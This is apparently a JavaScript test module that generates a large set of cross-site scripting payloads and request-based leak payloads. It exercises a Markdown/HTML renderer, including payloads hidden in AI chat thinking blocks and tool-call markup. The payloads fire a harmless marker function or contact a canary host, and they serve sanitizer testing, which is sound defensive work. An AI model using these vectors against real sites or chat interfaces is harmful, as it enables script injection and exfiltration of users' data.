// Techniques of cross-site scripting and of leaking by requests, each written for this suite as a
// function of a call `fire` that tells that it worked, and varied in spelling.
const CALL = (n) => `fired(${n})`;

const TECHNIQUES = {
  // elements that run a script by themselves
  'img onerror': (c) => `<img src=x onerror=${c}>`,
  'img onerror quoted': (c) => `<img src="x" onerror="${c}">`,
  'img with slashes': (c) => `<div><img/src="x"/onerror=${c}></div>`,
  'img unclosed': (c) => `<div><img src=x onerror=${c} </div>`,
  'svg onload': (c) => `<svg><style onload=${c}></style></svg>`,
  'svg in svg': (c) => `<svg><svg onload=${c}></svg></svg>`,
  'svg animate': (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  'svg set': (c) => `<svg><set onbegin=${c} attributeName=x to=y dur=1s>`,
  'svg foreignObject': (c) => `<svg><foreignObject><img src=x onerror=${c}></foreignObject></svg>`,
  'svg image': (c) => `<svg><image href=x onerror=${c}></svg>`,
  'svg desc': (c) => `<svg><desc><img src=x onerror=${c}></desc></svg>`,
  'svg title': (c) => `<svg><title><img src=x onerror=${c}></title></svg>`,
  'math mtext': (c) => `<math><mtext><img src=x onerror=${c}></mtext></math>`,
  'mutation by math': (c) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${c}>`,
  'iframe srcdoc': (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  'iframe javascript': (c) => `<iframe src="javascript:parent.${c}"></iframe>`,
  'iframe onload': (c) => `<iframe onload=${c}></iframe>`,
  'object data': (c) => `<object data="about:blank" onload=${c}></object>`,
  'video source': (c) => `<video><source onerror=${c}></video>`,
  'video onerror': (c) => `<video src=x onerror=${c}></video>`,
  'audio onerror': (c) => `<audio src=x onerror=${c}></audio>`,
  'input autofocus': (c) => `<input autofocus onfocus=${c}>`,
  'textarea autofocus': (c) => `<textarea autofocus onfocus=${c}></textarea>`,
  'select autofocus': (c) => `<select autofocus onfocus=${c}></select>`,
  'button autofocus': (c) => `<button autofocus onfocus=${c}>b</button>`,
  'details ontoggle': (c) => `<details open ontoggle=${c}>d</details>`,
  'animation': (c) => `<style>@keyframes zz{from{left:0}to{left:1px}}</style><p style="animation:zz .01s" onanimationend=${c}>a</p>`,
  'transition start': (c) => `<style>@keyframes zy{from{left:0}to{left:1px}}</style><b style="animation:zy .01s" onanimationstart=${c}>a</b>`,
  'link stylesheet onerror': (c) => `<link rel=stylesheet href="data:text/css," onload=${c}>`,
  'style onload': (c) => `<style onload=${c}></style>`,
  'custom element': (c) => `<x-y tabindex=1 autofocus onfocus=${c}>x</x-y>`,
  'popover': (c) => `<img src=x onerror="${c}" popover>`,
  'table': (c) => `<table><tr><td><img src=x onerror=${c}></td></tr></table>`,
  'noscript': (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>"></noscript><img src=x onerror=${c}>`,
  'template nested': (c) => `<div><p></p><img src=x onerror=${c}></div>`,
  'comment trick': (c) => `<!--><img src=x onerror=${c}>-->`,
  'cdata': (c) => `<svg><![CDATA[>]]><p><img src=x onerror=${c}></p></svg>`,
  'form button': (c) => `<form><input autofocus onfocus=${c}></form>`,
  'upper case': (c) => `<IMG SRC=X ONERROR=${c}>`,
  'newlines in the tag': (c) => `<img\nsrc=x\nonerror=${c}>`,
  'tab in the tag': (c) => `<img\tsrc=x\tonerror=${c}>`,
  'form feed': (c) => `<img\fsrc=x\fonerror=${c}>`,
  'entities in the handler': (c) => `<img src=x onerror="${c.replace('(', '&#40;').replace(')', '&#x29;')}">`,
  'two attributes': (c) => `<img src=x src=y onerror=${c} onerror=0>`,
  'data image svg': (c) => `<img src="data:image/svg+xml,<svg/onload=1>" onload=${c} onerror=${c}>`,
  'body onload': (c) => `<body onload=${c}><img src=x onerror=${c}>`,
  // inside of Markdown's own forms
  'in a list': (c) => `- one\n- <img src=x onerror=${c}>`,
  'in a quote': (c) => `> <img src=x onerror=${c}>`,
  'in a heading': (c) => `# <img src=x onerror=${c}>`,
  'in a table cell': (c) => `| a |\n|---|\n| <img src=x onerror=${c}> |`,
  'in emphasis': (c) => `**<img src=x onerror=${c}>**`,
  'in link words': (c) => `[<img src=x onerror=${c}>](https://a.invalid)`,
  'after a fence': (c) => `\`\`\`\nx\n\`\`\`\n<img src=x onerror=${c}>`,
  'by a fence language': (c) => `\`\`\`js"><img src=x onerror=${c}>\nx\n\`\`\`\n\n<img src=x onerror=${c}>`,
  'by a link title': (c) => `[a](https://a.invalid "x"onmouseover="${c}") <img src=x onerror=${c}>`,
  'by an image alt': (c) => `![x" onerror="${c}](x) <img src=x onerror=${c}>`,
  'in a formula': (c) => `$x <img src=x onerror=${c}>$ <img src=x onerror=${c}>`,
  'in a formula block': (c) => `$$\n\\text{<img src=x onerror=${c}>}\n$$\n\n<img src=x onerror=${c}>`,
  'in thinking': (c) => `<think><img src=x onerror=${c}></think><img src=x onerror=${c}>`,
  // what tools are called, given and give
  'as a tool': (c) => `<tool_call>\n{"name": "<img src=x onerror=${c}>", "arguments": {}}\n</tool_call>`,
  'as an argument': (c) => `<tool_call>\n{"name": "f", "arguments": {"a": "</code></pre><img src=x onerror=${c}>"}}\n</tool_call>`,
  'as a broken call': (c) => `<tool_call>\n{"name": \`\`\` <img src=x onerror=${c}>\n</tool_call>`,
  'as a result': (c) => `<tool_call>\n{"name": "f"}\n</tool_call>\n<tool_response>\n<img src=x onerror=${c}>\n</tool_response>`,
  // links, which a press follows
  'javascript link': (c) => `<a class=press href="javascript:${c};void 0">a</a>`,
  'javascript link in capitals': (c) => `<a class=press href="JaVaScRiPt:${c};void 0">a</a>`,
  'javascript link with a tab': (c) => `<a class=press href="java\tscript:${c};void 0">a</a>`,
  'javascript link with entities': (c) => `<a class=press href="&#106;avascript:${c};void 0">a</a>`,
  'svg link': (c) => `<svg><a class=press href="javascript:${c};void 0"><text y=20>a</text></a></svg>`,
  'onclick': (c) => `<b class=press onclick="${c}">a</b>`,
};

// Spellings that mean the same to a browser.
const VARIANTS = [
  (call) => call,
  (call) => `window.${call}`,
  (call) => `self.${call}`,
  (call) => `top.${call}`,
  (call) => `globalThis.${call}`,
  (call) => `(0,${call})`,
  (call) => `void(${call})`,
  (call) => `!${call}`,
  (call) => `[${call}]`,
  (call) => `{${call}}`,
  (call) => `${call}||0`,
  (call) => `0||${call}`,
  (call) => `1&&${call}`,
  (call) => `typeof(${call})`,
  (call) => `-${call}`,
  (call) => `+${call}`,
  (call) => `~${call}`,
  (call) => `(${call})`,
  (call) => `if(1){${call}}`,
  (call) => `/**/${call}`,
  (call) => `;${call};`,
  (call) => `try{${call}}catch{}`,
  (call) => `Array(${call})`,
  (call) => `Number(${call})`,
];

export const N_TECHNIQUES = Object.keys(TECHNIQUES).length;

// Every technique in `n` spellings; without spaces, which end an unquoted attribute.
export function scripts(n = VARIANTS.length) {
  const list = [];
  for (const [name, make] of Object.entries(TECHNIQUES)) {
    for (const vary of VARIANTS.slice(0, n)) {
      list.push({ name, text: make(vary(CALL(list.length))) });
    }
  }
  return list;
}

const LEAKS = [
  (u) => `![x](${u})`,
  (u) => `![](${u} "t")`,
  (u) => `[![x](${u})](https://a.invalid)`,
  (u) => `![x][r]\n\n[r]: ${u}`,
  (u) => `<img src="${u}">`,
  (u) => `<img srcset="${u} 1x">`,
  (u) => `<picture><source srcset="${u}"><img></picture>`,
  (u) => `<video poster="${u}"></video>`,
  (u) => `<video src="${u}" autoplay></video>`,
  (u) => `<audio src="${u}" autoplay></audio>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<embed src="${u}">`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<link rel="stylesheet" href="${u}">`,
  (u) => `<link rel="prefetch" href="${u}">`,
  (u) => `<link rel="preload" as="image" href="${u}">`,
  (u) => `<style>@import url("${u}");</style>`,
  (u) => `<p style="background:url('${u}')">x</p>`,
  (u) => `<style>p{background:url("${u}")}</style>`,
  (u) => `<svg><image href="${u}"/></svg>`,
  (u) => `<svg><use href="${u}#x"/></svg>`,
  (u) => `<svg><feImage href="${u}"/></svg>`,
  (u) => `<input type="image" src="${u}">`,
  (u) => `<body background="${u}">`,
  (u) => `<table background="${u}"><tr><td>x</td></tr></table>`,
  (u) => `<meta http-equiv="refresh" content="0;url=${u}">`,
  (u) => `<base href="${u}/"><img src="x">`,
  (u) => `<script src="${u}"></script>`,
  (u) => `<form action="${u}"><button autofocus>x</button></form>`,
  (u) => `<a href="https://a.invalid" ping="${u}">x</a>`,
  (u) => `$\\includegraphics{${u}}$`,
  (u) => `$\\href{${u}}{x}$ and $\\url{${u}}$`,
  (u) => `$\\htmlStyle{background:url(${u})}{x}$`,
  (u) => `<track src="${u}" default>`,
  (u) => `<math href="${u}"><mi>x</mi></math>`,
  (u) => `| ![x](${u}) |\n|---|\n| ![y](${u}) |`,
  (u) => `- ![x](${u})\n- <${u}>`,
  (u) => `# ![x](${u})`,
  (u) => `> ![x](${u})`,
  (u) => `${u}`,
];
const ADDRESSES = [
  (host, n) => `https://${host}/leak?c=${n}`,
  (host, n) => `http://${host}/leak/${n}.png`,
  (host, n) => `//${host}/${n}`,
  (host, n) => `https://user:canary@${host}/${n}`,
  (host, n) => `HTTPS://${host.toUpperCase()}/${n}`,
  (host, n) => `https://${n}.${host}/`,
  (host, n) => `https://${host}:8443/${n}`,
  (host, n) => `https://${host}/%63anary/${n}`,
  (host, n) => `https://${host}./${n}`,
  (host, n) => `https:\\\\${host}\\${n}`,
];

export function leaks() {
  return ADDRESSES.flatMap((address, a) =>
    LEAKS.map((leak, i) => ({ name: `leak ${i}`, text: leak(address('canary.invalid', a * LEAKS.length + i)) })),
  );
}
